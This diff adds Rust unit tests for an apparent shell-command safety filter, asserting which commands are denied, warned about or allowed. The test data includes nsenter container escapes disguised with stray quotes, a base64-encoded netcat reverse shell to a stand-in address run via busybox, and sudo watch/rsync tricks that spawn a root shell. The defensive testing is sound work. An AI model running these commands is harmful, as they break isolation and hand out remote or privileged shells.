@@ -322,3 +322,44 @@ fn a_command_compiles_only_its_programs_patterns() {
         c.compiled_patterns()
     );
 }
+
+#[test]
+fn a_line_with_an_open_quote_is_judged_as_meant() {
+    // Bash refuses these lines; with the stray quote gone they are the escapes they spell.
+    for cmd in [
+        "'n's'e'n't'e'r -t 1 -m sh",
+        "nsenter\" -t 1 -m sh",
+        "'nsenter -t 1 -m sh",
+    ] {
+        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
+    }
+    // Text in an open quote that is harmless either way stays allowed.
+    for cmd in ["echo \"it's", "echo 'don't", "git commit -m 'wip"] {
+        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
+    }
+}
+
+#[test]
+fn a_wrappers_output_is_its_inner_programs() {
+    // busybox's applets print what the programs they stand for print.
+    let cmd = "echo bmMgLWUgL2Jpbi9zaCAxOTguNTEuMTAwLjcgNDQ0NA== | busybox base64 -d | busybox sh";
+    assert_eq!(decide(cmd), Decision::Deny);
+    // Decoded text that is only `ls` is still decoded-and-run: a warning, not a denial.
+    assert_eq!(
+        decide("echo bHMK | busybox base64 -d | busybox sh"),
+        Decision::Warn
+    );
+}
+
+#[test]
+fn a_bare_shell_anywhere_in_a_runners_script_is_a_spawned_shell() {
+    for cmd in [
+        "sudo watch -x sh -c 'reset; exec sh 1>&0 2>&0'",
+        "sudo rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
+    ] {
+        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
+    }
+    for cmd in ["watch -n 1 'ps aux'", "rsync -e 'ssh -p 2222' a host:b"] {
+        assert_eq!(decide(cmd), Decision::Allow, "{cmd}");
+    }
+}
